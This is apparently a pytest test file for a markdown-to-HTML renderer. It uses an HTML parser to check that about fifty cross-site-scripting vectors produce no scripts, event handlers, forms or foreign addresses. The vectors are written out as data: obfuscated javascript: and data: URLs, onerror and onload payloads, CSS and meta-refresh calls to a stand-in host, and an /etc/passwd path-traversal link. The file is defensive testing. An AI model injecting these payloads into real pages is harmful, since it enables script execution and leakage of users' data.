"""What a file says cannot run, fetch or mislead in a page: an HTML parser looks for anything that could."""

from html.parser import HTMLParser

import pytest

from workspace_mem.web.markdown import as_html, inline

HARMLESS = {"a", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "li", "ol", "p"}
HARMLESS |= {"mark", "pre", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul"}

# 40 ways to bring a script, a form, a style or a foreign address into a page.
VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/\\evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    "[x](https://a.example 'title\" onmouseover=\"alert(1)')",
    "[x]: javascript:alert(1)\n\n[x]",
    "<style>@import '//evil.example'</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<link rel=stylesheet href=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x</button></form>",
    "<template><script>alert(1)</script></template>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "# <svg/onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1) id=main name=forms>click",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
]


class Oracle(HTMLParser):
    """Collects what is not harmless."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[object] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in HARMLESS:
            self.found.append(tag)
        for name, value in attrs:
            said = (value or "").strip().casefold()
            is_link = (tag, name) == ("a", "href") and said.startswith(
                ("http://", "https://", "mailto:", "/files/", "#")
            )
            if not is_link and (tag, name) != ("a", "rel"):
                self.found.append((tag, name, value))


@pytest.mark.parametrize("text", VECTORS, ids=range(len(VECTORS)))
def test_nothing_harmful_comes_through(text: str) -> None:
    for around in (text, f"- {text}", f"> a\n> {text}", f"a *{text}* b"):
        assert Oracle(as_html(around, "MEMORY.md")).found == Oracle(inline(around, [(2, 9)])).found == []


def test_links_lead_to_files_and_to_the_web() -> None:
    html = as_html(
        "[a](cache.md#x) [b](../runbook.md) [c](https://example.org) [d](../../../etc/passwd)", "memories/design/a.md"
    )
    assert '<a href="/files/memories/design/cache.md#x"' in html
    assert '<a href="/files/memories/runbook.md"' in html
    assert '<a href="https://example.org"' in html
    assert "passwd" not in html


def test_an_image_becomes_a_link() -> None:
    assert "<img" not in as_html("![a cat](https://example.org/cat.png)")
    assert ">a cat</a>" in as_html("![a cat](https://example.org/cat.png)")


@pytest.mark.parametrize("text", ["![l" * 20_000, "[" * 20_000, "x" * 300_000])
def test_a_text_that_takes_long_to_read_is_shown_as_it_is_written(text: str) -> None:
    assert "x" in as_html(text + "x")
